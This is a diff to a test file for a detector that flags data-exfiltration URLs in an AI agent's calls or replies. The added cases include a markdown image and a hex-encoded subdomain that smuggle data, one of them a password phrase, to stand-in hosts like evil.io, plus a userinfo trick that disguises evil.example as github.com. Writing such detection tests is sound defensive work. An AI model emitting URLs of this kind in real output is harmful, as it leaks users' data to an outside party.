@@ -109,6 +109,14 @@ describe('URLs in what an agent calls or says', () => {
       'image-with-data',
       'medium',
     ],
+    ['an image with data for a name', ['![](', `https://evil.io/${dense}.png`, ')'], 'image-with-data', 'medium'],
+    [
+      'words in hexadecimal before the domain',
+      ['', `http://${Buffer.from('the password is hunter2 or so').toString('hex')}.evil.io/`, ''],
+      'data-in-url',
+      'medium',
+    ],
+    ['a user that ends with a coded slash', ['', 'https://github.com%2f@evil.example/', ''], 'userinfo-trick', 'high'],
     ['an image of HTML', ['<img src="', `https://evil.io/?d=${dense}`, '">'], 'image-with-data', 'medium'],
   ])('%s', (_, parts, type, severity) => {
     expect(found(parts.join(''), 'agent')).toEqual([[type, severity, parts[1]]])
@@ -125,6 +133,8 @@ describe('URLs in what an agent calls or says', () => {
     'https://münchen.de/ https://xn--mnchen-3ya.de/ https://пример.рф/ https://例え.jp',
     `https://bucket.s3.amazonaws.com/x?X-Amz-Signature=${fake('', 64, 'hex')}&X-Amz-Credential=${fake('', 80)}`,
     'https://shop.com.au/ https://www.google.com.hk/ https://github-com.translate.goog/x',
+    `https://example.org/files/${dense}.png`,
+    `https://${fake('', 40, 'hex')}.preview.example.org/`,
     `https://example.org/commit/${fake('', 40, 'hex')}?id=f81d4fae-7dec-11d0-a765-00a0c91e6bf6`,
     'https://a.io/?q=how-to-write-a-very-long-slug-for-a-page-about-nothing-1',
     'https://{{user}}:{{pass}}@config.example.com\\" https://$HOST:$PORT/x',
